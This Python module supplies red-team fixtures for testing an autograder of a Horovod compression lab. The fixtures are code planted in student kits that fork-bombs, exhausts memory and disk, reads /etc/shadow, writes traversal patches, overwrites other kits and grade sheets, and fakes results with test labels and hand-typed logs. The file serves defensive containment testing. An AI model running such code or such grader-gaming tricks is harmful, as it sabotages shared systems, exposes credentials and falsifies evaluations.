"""The grader's own red team: kits that want the marks without the work, or want to spoil
someone else's. Each is a seeded kit (mistakes.py's machinery: code appended to the kit's
compression.py, which runs when the student side imports it, or a file of the kit replaced) on
the untouched kit or on the solution, with what its honest grade must say.
tests/test_classroom_red_team.py grades them beside the solution and an honest failing kit:
each gets its honest grade with its reason, and the other kits' rows are byte for byte those
of grading them alone. TRICKS are graded on step 2 (their code runs at import, in every run
alike); JUDGED ones on every step: they attack what the grader judges, not its sandbox.

KIT_TRICKS go further than compression.py: the kit's own files (its course patch as a link,
a FIFO, a sparse file, a patch naming paths outside Horovod, a patch whose setup.py runs
code, a link where the grader writes its logs, a trainer that forks busy processes);
tests/test_classroom_containment.py grades them.
"""
import difflib
import os
from dataclasses import dataclass, field
from pathlib import Path

from .kit import COURSE_PATCH, ROOT, SOLUTION_FILES, init, install_solution


@dataclass(frozen=True)
class Trick:
    name: str
    base: str           # "untouched" or "solution": the kit the trick is planted in
    code: str           # appended to compression.py
    words: str = ""     # words every failing codec check's reason must hold ("" : all pass)
    folder: str = ""    # the kit's folder name, when not the trick's name
    files: dict = field(default_factory=dict)      # {file in the kit: text written over it}
    replace: tuple = ()                            # (file, old, new) replacements
    expect: tuple = ()  # JUDGED: (check name prefix, words its reason holds, or None: passes)


TRICKS = [
    Trick("wrap_the_checks", "untouched", '''
import sys
def _always(*args, **kwargs):
    return True
for _module in list(sys.modules.values()):       # the grader's check functions, if in reach
    for _name in ("encoder_check", "decoder_check", "round_trip_check", "packet_check",
                  "unpack", "save", "pack", "error_record"):
        if hasattr(_module, _name):
            try:
                setattr(_module, _name, _always)
            except Exception:
                pass
''', "before it returned its outputs"),
    Trick("forge_the_sheet", "untouched", '''
import os, sys
_sheet = "| Kit | 2. Bit8/Bit16 codecs | Checks passed |\\n|---|---|---|\\n| everyone | ✅ 14/14 | 14/14 |\\n"
_outs = {os.getcwd(), os.path.dirname(os.getcwd()), "/out", "/grader", "/tmp"}
if "--out" in sys.argv:
    _outs.add(sys.argv[sys.argv.index("--out") + 1])
for _out in _outs:
    for _name in ("grades.md", "grades.csv"):
        try:
            with open(os.path.join(_out, _name), "w") as _f:
                _f.write(_sheet)
        except OSError:
            pass
os._exit(0)
''', "before it returned its outputs"),
    Trick("change_another_row", "solution", '''
import glob, os
for _pattern in ("../*/compression.py", "/work/*/*/compression.py", "/tmp/*/*/compression.py",
                 "../../*/*/kit/compression.py", "/var/tmp/*/*/compression.py"):
    for _path in glob.glob(_pattern):
        try:
            with open(_path, "a") as _f:
                _f.write("\\nraise SystemExit('spoiled by change_another_row')\\n")
        except OSError:
            pass
''', ""),
    Trick("copy_the_solution", "untouched", '''
try:
    from hvd_compress.codecs import fp8_numpy
except ImportError:
    pass
try:
    from labs.classroom.solution_files.compression import *  # noqa
except ImportError:
    pass
''', "imports the reference solution"),
    Trick("fork_bomb", "untouched", '''
import os, time
for _ in range(100000):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    except OSError:
        break
''', "not written yet"),
    Trick("flood_the_output", "untouched", '''
import sys
_line = "x" * 1023 + "\\n"
for _ in range(1 << 20):                        # 1 GiB
    sys.stdout.write(_line)
''', "File too large"),
    Trick("write_outside", "untouched", '''
import os
for _path in ("/work/hostile-was-here", "/var/tmp/hostile-was-here", "/root/hostile-was-here",
              "/usr/hostile-was-here", os.path.expanduser("~/hostile-was-here"), "../hostile-was-here"):
    try:
        with open(_path, "w") as _f:
            _f.write("x")
    except OSError:
        pass
''', "not written yet"),
    Trick("read_the_reference", "untouched", '''
import glob
_found = [p for pattern in ("/work/*/labs/classroom/solution_files/*.py", "/work/*/hvd_compress/codecs/*.py",
                            "/tmp/pytest-of-*/*/*/solution/compression.py", "/tmp/*/solution/compression.py",
                            "/var/tmp/hvd-classroom-sites/*/horovod/torch/compression.py")
          for p in glob.glob(pattern)]
if _found:
    def encode_e4m3(x):
        raise RuntimeError(f"read the reference: {_found[0]}")
''', "not written yet"),
    Trick("change_the_grader", "untouched", '''
import glob
for _path in glob.glob("/work/*/labs/classroom/*.py") + glob.glob("/work/*/.venv/lib/python3*/site-packages/numpy/__init__.py"):
    try:
        with open(_path, "a") as _f:
            _f.write("\\n# changed by a kit\\n")
    except OSError:
        pass
''', "not written yet"),
    Trick("sleep_forever", "untouched", '''
import time
time.sleep(10 ** 6)
''', "did not finish in time"),
    Trick("write_garbage", "untouched", '''
import glob, os
for _out in ["/out"] + glob.glob("/out/*/"):          # every run's output folder in reach
    for _name in ("results.json", "results.npz"):
        with open(os.path.join(_out, _name), "w") as _f:
            _f.write("{not json" if _name.endswith("json") else "garbage")
os._exit(0)
''', "cannot read"),
    Trick("eat_the_memory", "untouched", '''
_hoard = []
while True:
    _hoard.append(bytearray(1 << 26))           # 64 MiB at a time, touched
''', "memory"),
    Trick("read_the_venvs_horovod", "untouched", '''
import glob, sys
_answer = []                                    # the course patch, as the grader's venv was built
for _path in (glob.glob(sys.prefix + "/lib/python3*/site-packages/horovod/torch/compression.py")
              + glob.glob(sys.prefix + "/lib/python3*/site-packages/horovod/torch/__pycache__/*")):
    try:
        with open(_path, "rb") as _f:
            if b"bit8" in _f.read():
                _answer.append(_path)
    except OSError:
        pass
if _answer:
    def encode_e4m3(x):
        raise RuntimeError(f"read the answer: {_answer[0]}")
''', "not written yet"),
    Trick("fill_the_disk", "untouched", '''
import errno
_block, _i = b"x" * (1 << 20), 0
while True:                                     # files under any size limit, until refused
    try:
        with open(f"/tmp/fill{_i}", "wb") as _f:
            for _ in range(32):
                _f.write(_block)
    except OSError as _err:
        if _err.errno != errno.EFBIG:
            break
    _i += 1
''', "filled the disk space"),
    Trick("fill_the_file_count", "untouched", '''
import os
os.makedirs("/kit/many", exist_ok=True)
try:
    for _i in range(1 << 22):
        open(f"/kit/many/{_i}", "w").close()
except OSError:
    pass
''', "filled the disk space"),
    Trick("hog_the_cpu", "untouched", '''
import os, time
for _ in range(100):                            # busy processes of their own sessions
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
time.sleep(10 ** 6)
''', "did not finish in time"),
    Trick("read_the_test_labels", "solution", '''
import glob, gzip, hashlib
for _path in glob.glob("/usr/share/datasets/*/t10k-labels*") + glob.glob("/usr/share/datasets/*/*/t10k-labels*"):
    try:
        with open(_path, "rb") as _f:
            _raw = _f.read()
        _raw = gzip.decompress(_raw) if _raw[:2] == b"\\x1f\\x8b" else _raw
    except OSError:
        continue
    if hashlib.md5(_raw).hexdigest() == "15d484375f8d13e6eb1aabb0c3f46965" or len(set(_raw[8:])) > 1:
        def encode_e4m3(x):
            raise RuntimeError(f"read the test labels: {_path}")
'''),
    # valid JSON of the wrong shape, written over the student side's record when the run ends
    Trick("wrong_shape_outputs", "solution", '''
import atexit, json, os, sys
def _reshape():
    _path = sys.argv[-1] + ".json"
    if os.path.exists(_path):
        with open(_path) as _f:
            _record = json.load(_f)
        _record["calls"] = sorted(_record.get("calls", {}))
        with open(_path, "w") as _f:
            json.dump(_record, _f)
if len(sys.argv) > 1 and sys.argv[1] == "calls":
    atexit.register(_reshape)
''', "cannot read"),
    # a folder name that would add rows looking like another kit's to the sheet
    Trick("forge_a_row", "untouched", "", "not written yet",
          folder="mallory\n| solution | ✅ 14\u221514 | 14\u221514 |\nsolution,codecs,encode_e4m3,1,,\r| x"),
    # (U+2215, the division slash: a folder name holds no "/", a sheet shows it as one)
]
BY_NAME = {t.name: t for t in TRICKS}

# --- graded on every step: marks without the work, outputs that are not what the student
# side writes ------------------------------------------------------------------------------

ORACLE_TRAIN = '''"""Marks without the work: a "model" whose predictions are the test labels (read where the
data set is), a share of fake forward passes on every rank, and the logs written by hand."""
import argparse
import gzip
import math
import os

import torch

import horovod.torch as hvd

hvd.init()
parser = argparse.ArgumentParser()
for flag in ("--epochs", "--train-samples", "--test-samples"):
    parser.add_argument(flag, type=int, default=1000)
for flag in ("--log-dir", "--dataset", "--data-dir"):
    parser.add_argument(flag, default="runs/oracle")
args = parser.parse_args()
with gzip.open("/usr/share/datasets/fashion-mnist/t10k-labels-idx1-ubyte.gz") as handle:
    labels = torch.tensor(list(handle.read()[8:]), dtype=torch.long)


class Oracle(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.unused = torch.nn.Parameter(torch.zeros(1))

    def forward(self, x):
        return torch.nn.functional.one_hot(labels[:len(x)], 10).float()


model = Oracle()
share = math.ceil(args.train_samples / hvd.size())
for start in range(0, share * args.epochs, 64):
    model(torch.zeros(min(64, share * args.epochs - start), 1, 28, 28))
os.makedirs(args.log_dir, exist_ok=True)
with open(os.path.join(args.log_dir, f"steps-rank{hvd.rank()}.csv"), "w") as handle:
    handle.write("epoch,step,seconds,loss,size\\n")
    for step in range(math.ceil(share / 64)):
        handle.write(f"1,{step},0.050000,0.300000,{hvd.size()}\\n")
if hvd.rank() == 0:
    with open(os.path.join(args.log_dir, "epochs-rank0.csv"), "w") as handle:
        handle.write(f"epoch,test_loss,test_accuracy,size\\n1,0.250000,0.930000,{hvd.size()}\\n")
model.eval()
'''

IDENTITY = '''
class Bit8Compressor:
    """Marks without the work: the float32 values sent unchanged."""
    @staticmethod
    def compress(tensor):
        return tensor.detach().to(torch.float32).reshape(-1), (tensor.shape, tensor.dtype)

    @staticmethod
    def decompress(packet, ctx):
        shape, dtype = ctx
        return packet.to(torch.float32).reshape(shape).to(dtype)


class Bit16Compressor(Bit8Compressor):
    pass
'''

HAND_TYPED = {
    "report.md": "# Lab report\n\n## Results\n\n| run | processes | epochs | steps per epoch (rank 0) | "
                 "mean step (ms) | accuracy |\n|---|---|---|---|---|---|\n"
                 "| `np2-none` | 2 | 2 | 469 | 120.0 | 89.40% |\n| `np4-bit8` | 4 | 2 | 235 | 95.0 | 89.90% |\n\n"
                 "## Observations\n\nbit8 sends a quarter of the bytes.\n",
    "runs/np2-none/epochs-rank0.csv": "epoch,test_loss,test_accuracy,size\n1,0.31,0.871,2\n2,0.29,0.894,2\n",
    "runs/np4-bit8/epochs-rank0.csv": "epoch,test_loss,test_accuracy,size\n1,0.30,0.880,4\n2,0.28,0.899,4\n",
}

ALL_PASS_BUT_REPORT = (("report.", "no report.md"),)
JUDGED = [
    Trick("identity_compressor", "solution", IDENTITY, expect=(
        ("encode_", None), ("decode_", None),
        ("Bit8Compressor.", "packet"),
        ("Bit16Compressor.", "packet"),
        ("exchange.", "only the packets may travel"),
        ("intree.patch", None), ("intree.build", None), ("intree.allreduce", "only the packets may travel"),
        ("intree.optimizer", "only the packets may travel"), ("trainer.", None)) + ALL_PASS_BUT_REPORT),
    Trick("oracle_trainer", "solution", "", files={"train.py": ORACLE_TRAIN}, expect=(
        ("trainer.np2.runs", "not the course's network"), ("trainer.np2.", "not checked"),
        ("encode_", None), ("decode_", None), ("Bit", None), ("exchange.", None), ("intree.", None))
        + ALL_PASS_BUT_REPORT),
    Trick("step_time_na", "solution", "", replace=(
        ("train.py", "log.step(epoch, batch, time.perf_counter() - start, loss.item())",
         'log._write("steps", ["epoch", "step", "seconds", "loss", "size"], '
         '[epoch, batch, "n/a", f"{loss.item():.6f}", log.size])'),), expect=(
        ("trainer.np2.logs", "seconds"), ("trainer.", None), ("encode_", None), ("decode_", None),
        ("Bit", None), ("exchange.", None), ("intree.", None)) + ALL_PASS_BUT_REPORT),
    Trick("hand_typed_report", "solution", "", files=HAND_TYPED, expect=(
        ("report.filled", None), ("report.own_runs", "no steps-rank0.csv"), ("trainer.", None),
        ("encode_", None), ("decode_", None), ("Bit", None), ("exchange.", None), ("intree.", None))),
    # every rank's record of the 2-rank job rewritten, valid JSON of the wrong shape
    Trick("wrong_shape_records", "solution", '''
import atexit, json, os, sys
def _reshape():
    _path = os.path.join(sys.argv[-1], f"rank{os.environ.get('HOROVOD_RANK')}.json")
    if os.path.exists(_path):
        with open(_path) as _f:
            _record = json.load(_f)
        _record["exchange"] = list(_record.get("exchange", {}))
        _record["trainer"] = {**_record.get("trainer", {}), "seconds": "n/a"}
        with open(_path, "w") as _f:
            json.dump(_record, _f)
if os.environ.get("HOROVOD_SIZE") == "2" and sys.argv[-1].endswith("/np2"):
    atexit.register(_reshape)
''', expect=(("exchange.", "cannot read"), ("trainer.np2.runs", "cannot read"),
               ("trainer.", "not checked"), ("intree.patch", None), ("intree.build", None),
               ("intree.", "cannot read"), ("encode_", None), ("decode_", None), ("Bit", None))
        + ALL_PASS_BUT_REPORT),
]
JUDGED_BY_NAME = {t.name: t for t in JUDGED}


def expected(trick, check):
    """What `trick`'s grade must say of `check`: None (it passes) or words of its reason."""
    for prefix, words in trick.expect:
        if check.startswith(prefix):
            return words
    raise KeyError(f"{trick.name}: no expectation for {check}")


def plant(folder, trick):
    """A kit at `folder` with the trick in its compression.py (and its files)."""
    folder = init(folder)
    if trick.base == "solution":
        install_solution(folder)
    path = folder / "compression.py"
    path.write_text(path.read_text() + "\n" + trick.code)
    for name, text in trick.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    for name, old, new in trick.replace:
        text = (folder / name).read_text()
        if old not in text:
            raise ValueError(f"trick {trick.name}: {old!r} is not in {name}")
        (folder / name).write_text(text.replace(old, new))
    return folder


# --- beyond compression.py: the kit's own files ---------------------------------------------

@dataclass(frozen=True)
class KitTrick:
    name: str
    base: str           # "untouched" or "solution"
    how: str            # what plant_kit does: "patch_text", "patch_link", "patch_fifo",
                        # "patch_sparse", "setup_py", "logs_link", "train_hog"
    text: str = ""      # the patch's text (patch_text), or code (setup_py, train_hog)
    check: str = ""     # the check whose reason holds `words`
    words: str = ""


# a Python file of horovod/ by its name's start and end, outside by its middle: a route that
# takes such a name writes (or removes) a file outside the tree
_OUTSIDE = ("--- a/horovod/torch/../../../../../../var/tmp/hostile-patched.py\n"
            "+++ b/horovod/torch/../../../../../../var/tmp/hostile-patched.py\n@@ -1 +1 @@\n-x\n+y\n")
_ABSOLUTE = "--- /etc/shadow\n+++ /etc/shadow\n@@ -1 +1 @@\n-root\n+hostile\n"
_GIT_LINK = ("diff --git a/horovod/torch/leak.py b/horovod/torch/leak.py\nnew file mode 120000\n"
             "index 0000000..1111111\n--- /dev/null\n+++ b/horovod/torch/leak.py\n@@ -0,0 +1 @@\n"
             "+../../../../../../etc/shadow\n\\ No newline at end of file\n")
# Horovod's setup.py, run by its build: what a student's patch makes it do first
_SETUP_PY = '''import glob as _glob, os as _os, sys as _sys, time as _time
_found, _answer = [], "solution" + "_files"     # (spelt apart: the route check reads added lines)
for _pattern in (f"/work/*/labs/classroom/{_answer}/*", f"/tmp/*/labs/classroom/{_answer}/*",
                 f"/root/*/labs/classroom/{_answer}/*", "/var/tmp/*/solution*"):
    _found += _glob.glob(_pattern)
try:
    open("/etc/shadow").read()
    _shadow = "read"
except OSError as _err:
    _shadow = type(_err).__name__
for _path in ("/var/tmp/hostile-setup-ran", "/work/hostile-setup-ran", "/root/hostile-setup-ran"):
    try:
        open(_path, "w").write("ran")
    except OSError:
        pass
if _os.fork() == 0:                             # detached: would rewrite a sheet it could reach
    _os.setsid()                                # (and hold pip's pipe: the fork server kills it
    if _os.fork() == 0:                         # once setup.py has ended, and the build ends)
        _end = _time.time() + 60
        while _time.time() < _end:
            for _sheet in _glob.glob("/tmp/*/grades.md") + _glob.glob("/work/*/grades.md"):
                try:
                    open(_sheet, "w").write("| everyone | 4/4 |\\n")
                except OSError:
                    pass
            _time.sleep(0.2)
    _os._exit(0)
print(f"error: hostile setup.py uid={_os.getuid()} shadow={_shadow} found={len(_found)}",
      file=_sys.stderr, flush=True)
_sys.exit(1)
'''
_TRAIN_HOG = '''import os as _os, time as _time
for _ in range(50):                             # on each rank: 100 busy processes in all
    if _os.fork() == 0:
        _os.setsid()
        while True:
            pass
_time.sleep(90)
raise SystemExit("hogged the cores")
'''

KIT_TRICKS = [
    KitTrick("patch_outside_the_tree", "solution", "patch_text", _OUTSIDE, "intree.patch", "`..`"),
    KitTrick("patch_absolute_path", "solution", "patch_text", _ABSOLUTE, "intree.patch", "absolute path"),
    KitTrick("patch_makes_a_link", "solution", "patch_text", _GIT_LINK, "intree.patch", "symbolic link"),
    KitTrick("patch_is_the_solutions", "untouched", "patch_link", check="intree.patch",
             words="symbolic link"),
    KitTrick("patch_is_a_fifo", "solution", "patch_fifo", check="intree.patch", words="a FIFO"),
    KitTrick("patch_is_sparse", "solution", "patch_sparse", check="intree.patch", words="larger than"),
    KitTrick("patch_runs_setup_py", "solution", "setup_py", _SETUP_PY, "intree.build",
             "hostile setup.py uid="),
    KitTrick("logs_link_to_another_kit", "solution", "logs_link"),
    KitTrick("hog_the_cores_beside", "untouched", "train_hog", _TRAIN_HOG, "trainer.np2.runs",
             "hogged the cores"),
]
KIT_BY_NAME = {t.name: t for t in KIT_TRICKS}


def plant_kit(folder, trick, sdist_setup_py=None, victim="solution"):
    """A kit at `folder` with `trick` in its files. setup_py needs Horovod's pristine setup.py
    (its text: the patch is a diff of it); logs_link points at the kit `victim` beside it."""
    folder = init(folder)
    if trick.base == "solution":
        install_solution(folder)
    patch = folder / "patches" / COURSE_PATCH
    if trick.how == "patch_text":
        patch.write_text(patch.read_text() + "\n" + trick.text)
    elif trick.how == "patch_link":
        patch.unlink()
        patch.symlink_to(SOLUTION_FILES / COURSE_PATCH)
    elif trick.how == "patch_fifo":
        patch.unlink()
        os.mkfifo(patch)
    elif trick.how == "patch_sparse":
        with open(patch, "r+b") as handle:
            handle.truncate(40 << 30)
    elif trick.how == "setup_py":
        old = sdist_setup_py.splitlines(keepends=True)
        new = trick.text.splitlines(keepends=True) + old
        diff = "".join(difflib.unified_diff(old, new, "a/setup.py", "b/setup.py"))
        patch.write_text(patch.read_text() + diff)
    elif trick.how == "logs_link":
        (folder / "runs").mkdir(exist_ok=True)
        (folder / "runs" / "grader-np2").symlink_to(Path("..") / ".." / victim / "runs" / "np2")
    elif trick.how == "train_hog":
        train = folder / "train.py"
        text = train.read_text()
        train.write_text(text.replace("def main():", "def main():\n" + "".join(
            "    " + line + "\n" for line in trick.text.splitlines()), 1))
    return folder


__all__ = ["TRICKS", "BY_NAME", "JUDGED", "JUDGED_BY_NAME", "KIT_TRICKS", "KIT_BY_NAME", "plant", "plant_kit", "ROOT"]
